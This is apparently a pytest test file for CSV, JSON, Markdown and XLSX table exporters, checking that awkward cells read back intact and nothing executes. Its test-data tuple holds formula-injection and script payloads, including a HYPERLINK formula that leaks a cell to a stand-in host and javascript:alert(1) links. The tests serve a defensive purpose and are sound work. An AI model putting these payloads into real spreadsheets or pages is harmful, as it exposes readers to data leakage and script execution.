"""Each file format on nasty tables: what is written reads back as it was, and runs nowhere."""

import csv
import io
import json
import re
import zipfile
from datetime import datetime
from urllib.parse import unquote
from xml.etree import ElementTree as ET

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from registry.errors import CannotRunError
from registry.export.export import writers
from registry.output.table import Column, Table
from registry.output.tables import xlsx
from registry.output.tables.csv import tame
from tests.output.tables.reading import original

NASTY = (
    "=1+1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\u200b=1+1", "\x0b=1",
    "'=1", '=HYPERLINK("http://x.example/?"&A1,"click")', 'a",=1+1,"', "a;=1+1",
    "+49 30 123456", "-", "@handle", "0123", "1E5", "2026-03-29", "TRUE", "",
    "  padded  ", "two\nlines", "two\r\nlines", "a | b", "`code`", "``", "<b>&amp;</b>",
    "[x](http://x.example)", "https://x.example/a_b", "www.x.example", ":smile: 10:30:00",
    "*a* _b_ ~c~ $d$", "back\\slash", "\\|", "#1", "!x", "null \x00 byte", "\x1b[31mred",
    "_x0041_", "_x005F_", "nel\x85", "\ufffe\uffff", "\u202eright to left", "\U0001f600",
    "\u2028", "ends with '", "naïve café 日本", "a\tb",
    "javascript:alert(1)", "<javascript:alert(1)>", "https://user:pw@x.example", "see https://x.example",
    "https://x.example/?a=1&copy;2", "https://x.example/?a=[1]&b=(2)#c", "https://x.example/a|b",
    "HTTPS://X.example:8080", "mailto:ann@x.example", "https://ex\u0430mple.example", "https://x.example/{{x}}",
    "<r><t>bold</t></r>", "<r></t></si><si><t>x</r>", "<r>", "<r></r>", "&#10;", "]]>",
)  # fmt: skip
COLUMNS = (Column("=id"), Column("te|xt"), Column("<b>", "b"))
TABLE = Table("nasty", "A *nasty* <title>", COLUMNS, tuple((one, one, "A") for one in NASTY))


def _render(name: str, table: Table = TABLE) -> bytes:
    return writers()[name].render(table)


def _read_csv(content: bytes) -> list[list[str]]:
    rows = csv.reader(io.StringIO(content.decode("utf-8"), newline=""), strict=True)
    return [[original(cell) for cell in row] for row in rows]


@pytest.mark.parametrize("name", sorted(writers()))
def test_same_table_same_bytes(name: str) -> None:
    copy = Table(TABLE.name, TABLE.title, TABLE.columns, tuple(TABLE.rows))
    assert _render(name) == _render(name, copy)


@pytest.mark.parametrize("name", sorted(writers()))
def test_no_rows(name: str) -> None:
    empty = Table("empty", "Empty", (Column("a"), Column("b")), ())
    assert _render(name, empty) != _render(
        name, Table("empty", "Empty", empty.columns, (("", ""),))
    )


# -- csv -----------------------------------------------------------------------------------------


def test_csv_reads_back() -> None:
    rows = [list(map(tame, row)) for row in TABLE.rows]
    assert _read_csv(_render("csv")) == [list(TABLE.headings), *rows]


def test_csv_quotes_every_field_and_ends_lines_as_rfc_4180_has_it() -> None:
    table = Table("t", "T", (Column("a"), Column("b")), (("1", ""), ('"', "=x")))
    assert _render("csv", table) == b'"a","b"\r\n"1",""\r\n"""","\'=x"\r\n'


def test_csv_in_pandas() -> None:
    found = pd.read_csv(io.BytesIO(_render("csv")), dtype=str, keep_default_na=False)
    assert [original(one) for one in found.columns] == list(TABLE.headings)
    assert [original(one) for one in found["te|xt"]] == list(map(tame, NASTY))


@given(st.lists(st.tuples(*[st.text(st.characters(exclude_categories=["Cs"]))] * 2), max_size=5))
def test_csv_reads_back_whatever_it_holds(rows: list[tuple[str, str]]) -> None:
    table = Table("t", "T", (Column("a"), Column("b")), tuple(rows))
    assert _read_csv(_render("csv", table)) == [["a", "b"], *(list(map(tame, row)) for row in rows)]


# -- json ----------------------------------------------------------------------------------------


def test_json_reads_back() -> None:
    assert json.loads(_render("json")) == {
        "format": "opmodel.table.v1",
        "export": "nasty",
        "columns": list(TABLE.headings),
        "rows": [dict(zip(TABLE.headings, row, strict=True)) for row in TABLE.rows],
    }


def test_json_is_a_line_a_row() -> None:
    assert _render("json").count(b"\n") == 3 + len(TABLE.rows)
    assert _render("json").endswith(b"]}\n")


# -- md ------------------------------------------------------------------------------------------


def _shown(text: str) -> str:
    """Return a cell as a reader of the page should see it, with `/` for a line break."""
    text = re.sub(r"\r\n?|\n", "/", text.strip()).replace("\t", " ")
    return re.sub("[\x00\x0b\x1b\x85\u200b\u2028\u202e\ufffe\uffff]", _named, text)


def _named(found: re.Match[str]) -> str:
    names = {"\x00": " (NUL)", "\x1b": " (ESC)", "\x85": " (NEL)"}
    return f"<U+{ord(found[0]):04X}{names.get(found[0], '')}>"


LINKED = (
    "https://x.example/a_b", "https://x.example/?a=[1]&b=(2)#c", "HTTPS://X.example:8080",
)  # fmt: skip
"""Cells that are nothing but a safe address."""


def test_md_shows_every_cell_literally() -> None:
    page = MarkdownIt("commonmark", {"linkify": True}).enable("table").parse(_render("md").decode())
    seen = []
    for token in page:
        if token.type == "inline":
            if token.content.strip("<>") not in LINKED:
                assert {part.type for part in token.children or ()} <= {"text", "html_inline"}
            parts = (part.content.replace("<br>", "/") for part in token.children or ())
            seen.append("".join(parts))
    cells = [TABLE.title, *TABLE.headings, *(cell for row in TABLE.rows for cell in row)]
    assert seen == [_shown(cell) for cell in cells]
    assert [token.type for token in page].count("tr_open") == 1 + len(TABLE.rows)


def test_a_cell_of_md_that_is_a_safe_address_is_a_link_that_shows_it() -> None:
    page = MarkdownIt("commonmark").enable("table").parse(_render("md").decode())
    parts = [part for token in page for part in token.children or ()]
    links = [unquote(str(part.attrs["href"])) for part in parts if part.type == "link_open"]
    assert links == [one for one in LINKED for _ in range(2)]


def test_md_leaves_no_link_for_github_to_find() -> None:
    text = _render("md").decode()
    for one in LINKED:
        text = text.replace(f"<{one}>", "")
    assert "://" not in text
    assert "www." not in text
    assert ":smile:" not in text
    assert "10:30:00" in text


# -- xlsx ----------------------------------------------------------------------------------------


_NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _read_xlsx(content: bytes) -> list[list[str]]:
    """Read a sheet as ECMA-376 defines it: shared strings, their runs joined, `_xHHHH_` decoded."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        strings = ET.fromstring(book.read("xl/sharedStrings.xml"))
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    texts = [
        re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), "".join(one.itertext()))
        for one in strings
    ]
    width = len(next(sheet.iter(f"{_NAMESPACE}row")))
    rows = []
    for row in sheet.iter(f"{_NAMESPACE}row"):
        cells = [""] * width
        for cell in row:
            assert cell.get("t") == "s"
            index = cell.findtext(f"{_NAMESPACE}v")
            cells["ABC".index(cell.get("r", "?")[0])] = texts[int(index or -1)]
        rows.append(cells)
    return rows


def test_xlsx_reads_back() -> None:
    assert _read_xlsx(_render("xlsx")) == [list(TABLE.headings), *map(list, TABLE.rows)]


def test_xlsx_in_openpyxl_and_pandas() -> None:
    """Both show a control character by its escape, as they do with what Excel itself writes."""
    sheet = openpyxl.load_workbook(io.BytesIO(_render("xlsx"))).worksheets[0]
    frame = pd.read_excel(io.BytesIO(_render("xlsx")), dtype=str, keep_default_na=False)
    for number, cell in enumerate(NASTY):
        if not re.search("[\x00-\x08\x0b-\x1f\ufffe\uffff]|_x", cell):
            assert (sheet.cell(number + 2, 2).value or "") == cell
            assert frame["te|xt"][number] == cell
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}


def test_xlsx_holds_no_formula_and_no_link() -> None:
    with zipfile.ZipFile(io.BytesIO(_render("xlsx"))) as book:
        assert book.testzip() is None
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "hyperlink" not in sheet
    assert not [name for name in names if "calcChain" in name or "rels/sheet" in name]


def test_xlsx_is_ready_to_read() -> None:
    long = Table("t", "T", (Column("id"), Column("text"), Column("A long heading")),
                 (("one", "word " * 100, "A/R"), ("two", "short", "I")))  # fmt: skip
    sheet = openpyxl.load_workbook(io.BytesIO(_render("xlsx", long))).worksheets[0]
    assert sheet.title == "t"
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:C3"
    assert sheet["A1"].font.b
    assert sheet["B2"].alignment.wrap_text
    assert sheet["C2"].alignment.horizontal == "center"
    widths = {name: round(size.width) for name, size in sheet.column_dimensions.items()}
    assert widths == {"A": 8, "B": 62, "C": 11}


LETTERED = Table(
    "matrix",
    "Who & what",
    (
        Column("id", spoken="it"),
        Column("who_id", spoken="who_id", aside=True),
        Column("who", look="owed"),
        Column("missing", look="gap"),
        Column("Ana Ruiz", look="letters"),
        Column("leadership", look="letters"),
    ),
    (
        ("one", "ana", "Ana Ruiz", "", "A/R", "A: Ana Ruiz"),
        ("two", "", "", "nobody is accountable " * 9, "C", "R: Ana Ruiz"),
    ),
    (("R", "responsible, does the work"), ("A", "accountable, answers for it")),
    "2026-11-28",
)


def test_xlsx_colours_gaps_and_who_is_accountable() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_render("xlsx", LETTERED))).worksheets[0]
    assert [cell.value for cell in sheet[1]] == [
        "it", "who", "missing", "Ana Ruiz", "leadership", "who_id",
    ]  # fmt: skip
    fills = [[cell.fill.fgColor.rgb[2:] for cell in row] for row in sheet.iter_rows(min_row=2)]
    green, red, none = "CFE8CF", "F8D0C8", "000000"
    assert fills == [
        [none, none, none, green, green, none],
        [none, red, red, none, none, none],
    ]


def test_xlsx_is_ready_to_print_and_tells_its_letters() -> None:
    book = openpyxl.load_workbook(io.BytesIO(_render("xlsx", LETTERED)))
    sheet, legend = book.worksheets
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddHeader.left.text == "Who && what"
    assert sheet.oddHeader.right.text == "as of 2026-11-28"
    assert sheet.oddFooter.left.text == "R responsible, A accountable"
    said = [[cell.value for cell in row if cell.value] for row in legend.iter_rows()]
    assert said == [
        ["Who & what"], ["As of 2026-11-28"], [],
        ["R", "responsible, does the work"], ["A", "accountable, answers for it"],
        ["a gap: what is missing"],
    ]  # fmt: skip


def test_xlsx_rows_fit_their_text() -> None:
    cells = ("short", "two\nlines", "word " * 100, "x" * 200, "日" * 61, "line\n" * 40)
    table = Table("t", "T", (Column("id"),), tuple((cell,) for cell in cells))
    sheet = openpyxl.load_workbook(io.BytesIO(_render("xlsx", table))).worksheets[0]
    heights = [sheet.row_dimensions[number].height for number in range(2, 8)]
    assert heights == [None, 30, 9 * 15, 4 * 15, 3 * 15, None]


def test_xlsx_tells_the_day_that_it_is_of() -> None:
    assert xlsx.dated(_render("xlsx", LETTERED)) == "2026-11-28"
    assert xlsx.dated(b"") == xlsx.dated(b"PK nothing") == ""


def test_md_shows_columns_as_people_read_them_and_the_letters() -> None:
    lines = _render("md", LETTERED).decode().splitlines()
    assert lines[2] == "| it | who | missing | Ana Ruiz | leadership | who\\_id |"
    assert lines[-1] == "R: responsible, does the work; A: accountable, answers for it"


def test_a_margin_holds_a_long_title() -> None:
    table = Table("t", "A & B\n" + "x" * 300, (Column("a"),), ())
    sheet = openpyxl.load_workbook(io.BytesIO(_render("xlsx", table))).worksheets[0]
    text = sheet.oddHeader.left.text
    assert text.startswith("A && B xxx")
    assert text.endswith("x…")


def test_xlsx_has_no_time_of_its_own() -> None:
    content = _render("xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert {entry.date_time for entry in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    created = openpyxl.load_workbook(io.BytesIO(content)).properties.created
    assert created == datetime(1980, 1, 1)  # noqa: DTZ001


@pytest.mark.parametrize(
    ("name", "title"),
    [("a/b:c*[d]?\\e", "a b c  d   e"), ("x" * 40, "x" * 31), ("'quoted'", " quoted ")],
)
def test_xlsx_sheet_name(name: str, title: str) -> None:
    content = _render("xlsx", Table(name, "T", (Column("a"),), ()))
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == [title]


@pytest.mark.parametrize("cell", ["x" * 32_767, "\U0001f600" * 16_383])
def test_xlsx_longest_cell(cell: str) -> None:
    content = _render("xlsx", Table("t", "T", (Column("a"),), ((cell,),)))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A2"].value == cell


@pytest.mark.parametrize("cell", ["x" * 32_768, "\U0001f600" * 16_384])
def test_xlsx_never_cuts_a_cell(cell: str) -> None:
    table = Table("t", "T", (Column("a"), Column("b")), (("", ""), ("", cell)))
    with pytest.raises(CannotRunError, match="row 3, column `b`: a cell of a workbook holds 32767"):
        _render("xlsx", table)


def test_xlsx_never_cuts_rows_or_columns(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    two = Table("t", "T", (Column("a"),), (("",),) * 2)
    assert _render("xlsx", two)
    with pytest.raises(CannotRunError, match="3 rows and 1 columns do not fit"):
        _render("xlsx", Table("t", "T", two.columns, (("",),) * 3))
    wide = tuple(Column(str(number)) for number in range(16_385))
    with pytest.raises(CannotRunError, match="0 rows and 16385 columns do not fit"):
        _render("xlsx", Table("t", "T", wide, ()))
